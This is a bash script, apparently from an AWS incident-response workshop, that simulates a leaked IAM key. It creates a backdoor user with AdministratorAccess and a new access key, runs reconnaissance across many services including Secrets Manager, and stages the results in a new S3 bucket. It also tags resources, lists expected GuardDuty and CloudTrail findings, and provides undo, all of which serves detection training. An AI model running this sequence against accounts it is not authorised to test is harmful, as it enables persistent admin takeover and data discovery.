#!/usr/bin/env bash
# simulate-credential-exposure.sh: act as an attacker who found a leaked IAM
# access key: persistence, privilege, reconnaissance and staging.
#
# What it does, with the "leaked" key (profile credential_exposure: IAM user
# integration of SimulationStack, whose policy allows iam:*):
#   1. creates IAM user ir-persistence-RUN_ID, the attacker's backdoor;
#   2. attaches the AWS managed policy AdministratorAccess to it;
#   3. creates an access key for it and waits, with bounded retries, until IAM
#      accepts the new key (IAM is eventually consistent);
# then with the new key, which it keeps in memory only (never on disk, never
# printed):
#   4. light reconnaissance: list and describe calls across IAM, Lambda, KMS,
#      CloudWatch Logs, S3, EC2, Secrets Manager and SQS; a call that fails is
#      noted in the output and the run goes on;
#   5. creates S3 bucket ir-recon-ACCOUNT-RUN_ID and stores the reconnaissance
#      output in it as recon/RUN_ID.json.
#
# What it creates: the IAM user (tagged), its AdministratorAccess attachment,
# its access key, the bucket (tagged) and the object. Tags:
# ir-workshop:simulation-run=RUN_ID, ir-workshop:simulation=credential-exposure.
# The state file (-s, default ./credential-exposure-RUN_ID.json) is created
# before the first change, exclusively (a second run on the same file stops
# there, having changed nothing), and names each resource before the call
# that creates it, so undo works after a crash or Ctrl-C; undo also finds
# the user and the bucket by their names, which come from the run ID. Every
# AWS CLI call sends "app/ir-workshop-RUN_ID" in its User-Agent.
#
# What GuardDuty and CloudTrail should show: CloudTrail management events
# CreateUser, AttachUserPolicy (AdministratorAccess) and CreateAccessKey by
# IAM user integration; then GetUser, List* and Describe* calls across the
# services above, CreateBucket and PutBucketTagging by user
# ir-persistence-RUN_ID (PutObject too, if the trail logs S3 data events);
# every event's userAgent contains app/ir-workshop-RUN_ID. GuardDuty may
# report Persistence:IAMUser/AnomalousBehavior,
# PrivilegeEscalation:IAMUser/AnomalousBehavior and
# Discovery:IAMUser/AnomalousBehavior; its anomaly detection needs a
# baseline, so in a fresh account the findings can take a while or not
# appear at all.
#
# Undo: scripts/undo-credential-exposure.sh -s STATE_FILE [-p PROFILE], with a
# profile allowed to delete IAM users and S3 buckets (break glass); the
# command is printed, quoted for pasting, at the end of the run, or when it
# stops early.
#
# Test hooks: IR_WORKSHOP_TEST_CRASH_AFTER=STEP makes the script kill itself
# with SIGKILL after STEP (user, policy, access-key, bucket, object) was
# recorded; IR_WORKSHOP_RETRY_DELAY=SECONDS sets the first retry delay.
#
# Exit status: 0 done, 1 a step failed (the state file names what exists;
# undo it), 2 bad usage.
set -euo pipefail
# This script holds a secret access key in a variable: never trace it.
{ set +x; } 2>/dev/null

script_dir="$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)"
# shellcheck source=lib/common.sh
source "$script_dir/lib/common.sh"

readonly simulation=credential-exposure
readonly admin_policy_name=AdministratorAccess
# Attempts until the new access key works: about a minute with backoff.
readonly key_attempts=8

usage() {
  cat <<EOF
Usage: $IR_PROG [-p PROFILE] [-r REGION] [-s STATE_FILE]

Simulate a leaked IAM access key: create a persistence user with
AdministratorAccess and an access key, use that key for reconnaissance, and
store the result in a new S3 bucket. Undo with undo-credential-exposure.sh.

  -p PROFILE     AWS CLI profile with the leaked key
                 (default: credential_exposure; see
                 configure-simulation-profiles.sh)
  -r REGION      region of the bucket and the regional calls
                 (default: \$AWS_REGION, \$AWS_DEFAULT_REGION, then the
                 profile's region)
  -s STATE_FILE  where to record what the run creates; must not exist
                 (default: ./credential-exposure-RUN_ID.json)
  -h             show this help
EOF
}

aws_profile=credential_exposure
state_file=""
while getopts ':p:r:s:h' opt; do
  case "$opt" in
    s) check_value s "$OPTARG"; state_file="$OPTARG" ;;
    *) common_option "$opt" "${OPTARG:-}" ;;
  esac
done
shift $((OPTIND - 1))
no_operands "$@"
resolve_region
if [[ -n "$state_file" ]]; then
  require_new_state_file "$state_file"
fi
ir_init

# at_exit STATUS: a run that stops early is marked failed, with how to undo.
at_exit() {
  simulation_at_exit "$1" "$script_dir/undo-credential-exposure.sh"
}
simulation_begin "$simulation"

user_name="ir-persistence-$run_id"
bucket="ir-recon-$caller_account-$run_id"
object_key="recon/$run_id.json"
policy_arn="arn:$(partition):iam::aws:policy/$admin_policy_name"
tags="$(simulation_tags "$simulation" "$run_id")"
simulation_state_create "$simulation"

# Step 1: the persistence user. Names chosen here are recorded before the
# call that creates them, so that a crash during the call still leaves them
# in the state file; undo tolerates what never came to exist.
state_set .resources.iam_user "$user_name"
if ! awsx iam create-user --user-name "$user_name" --tags "$tags" >/dev/null; then
  aws_die "step 1: cannot create IAM user $user_name"
fi
log "step 1: created IAM user $user_name"
checkpoint user

# Step 2: administrator. A new user can take a moment to be visible to IAM.
state_append .resources.attached_policy_arns "$policy_arn"
if ! retry_while 4 NoSuchEntity awsx iam attach-user-policy --user-name "$user_name" --policy-arn "$policy_arn"; then
  aws_die "step 2: cannot attach $admin_policy_name to $user_name"
fi
log "step 2: attached $policy_arn to $user_name"
checkpoint policy

# Step 3: an access key for the persistence user, kept in memory. Its ID goes
# to the state file before anything else happens.
if ! key_json="$(retry_while 4 NoSuchEntity awsx iam create-access-key --user-name "$user_name")"; then
  aws_die "step 3: cannot create an access key for $user_name"
fi
# Pipes, not here-strings or files, carry the secret to jq.
json_read '(.AccessKey.AccessKeyId // ""), (.AccessKey.SecretAccessKey // "")' new_key_id new_secret \
  < <(printf '%s' "$key_json")
unset key_json
if [[ -z "$new_key_id" || -z "$new_secret" ]]; then
  die "step 3: create-access-key returned no key for $user_name"
fi
state_append .resources.access_key_ids "$new_key_id"
log "step 3: created access key $new_key_id for $user_name"
checkpoint access-key

# as_new_user ARGS...: the AWS CLI signed with the persistence user's key.
as_new_user() {
  awsx_key "$new_key_id" "$new_secret" "$@"
}

# new_key_works: the key is accepted and the user's administrator policy is in
# effect (iam:GetUser needs it).
new_key_works() {
  as_new_user iam get-user --output text --query User.UserName >/dev/null
}
log "waiting until IAM accepts access key $new_key_id (at most $key_attempts attempts)"
if ! retry "$key_attempts" new_key_works; then
  aws_die "step 3: cannot confirm that IAM accepts access key $new_key_id (tried $key_attempts times)"
fi
log "access key $new_key_id works"

# Step 4: reconnaissance with the new key. Each call's output or error goes
# into one JSON document; failures are tolerated.
recon_calls=(
  "sts get-caller-identity"
  "iam get-account-summary"
  "iam list-users"
  "iam list-roles"
  "iam list-policies --scope Local"
  "lambda list-functions"
  "kms list-keys"
  "kms list-aliases"
  "logs describe-log-groups"
  "s3api list-buckets"
  "ec2 describe-instances"
  "ec2 describe-vpcs"
  "ec2 describe-security-groups"
  "secretsmanager list-secrets"
  "sqs list-queues"
)
recon_dir="$IR_TMP/recon"
mkdir "$recon_dir"
failed_calls=0
index=0
for call in "${recon_calls[@]}"; do
  index=$((index + 1))
  read -ra words <<<"$call"
  record="$recon_dir/$(printf '%02d' "$index").json"
  if as_new_user "${words[@]}" >"$recon_dir/out"; then
    # An empty answer (sqs list-queues without queues) is an empty object.
    jq -n --arg call "$call" --slurpfile out "$recon_dir/out" \
      '{call: $call, ok: true, output: ($out[0] // {})}' >"$record"
  else
    failed_calls=$((failed_calls + 1))
    warn "reconnaissance call '$call' failed; going on: $(aws_error | head -n 1)"
    jq -n --arg call "$call" --arg error "$(aws_error)" '{call: $call, ok: false, error: $error}' >"$record"
  fi
done
recon_file="$IR_TMP/recon.json"
jq -s --arg run_id "$run_id" --arg at "$(now)" --arg by "$user_name" \
  '{simulation: "credential-exposure", run_id: $run_id, collected_at: $at, collected_by: $by, calls: .}' \
  "$recon_dir"/[0-9]*.json >"$recon_file"
log "step 4: reconnaissance made ${#recon_calls[@]} calls, $failed_calls failed"

# Step 5: a new bucket for the loot, then the object.
state_set .resources.s3_bucket "$bucket"
create_bucket=(s3api create-bucket --bucket "$bucket")
if [[ "$aws_region" != us-east-1 ]]; then
  create_bucket+=(--create-bucket-configuration "LocationConstraint=$aws_region")
fi
if ! as_new_user "${create_bucket[@]}" >/dev/null; then
  aws_die "step 5: cannot create S3 bucket $bucket"
fi
if ! retry_while 3 NoSuchBucket as_new_user s3api put-bucket-tagging --bucket "$bucket" \
  --expected-bucket-owner "$caller_account" --tagging "{\"TagSet\": $tags}"; then
  aws_die "step 5: cannot tag S3 bucket $bucket"
fi
log "step 5: created S3 bucket $bucket"
checkpoint bucket

state_append .resources.s3_object_keys "$object_key"
if ! as_new_user s3api put-object --bucket "$bucket" --key "$object_key" \
  --expected-bucket-owner "$caller_account" --body "$recon_file" \
  --content-type application/json >/dev/null; then
  aws_die "step 5: cannot store s3://$bucket/$object_key"
fi
log "step 5: stored the reconnaissance output as s3://$bucket/$object_key"
checkpoint object

unset new_secret
state_status complete
cat <<EOF
Simulation $simulation, run $run_id: complete.
  persistence user  $user_name (AdministratorAccess, access key $new_key_id)
  recon bucket      s3://$bucket/$object_key
  state file        $state_file
Undo it with:
  $(shell_quote "$script_dir/undo-credential-exposure.sh" -s "$state_file")
EOF
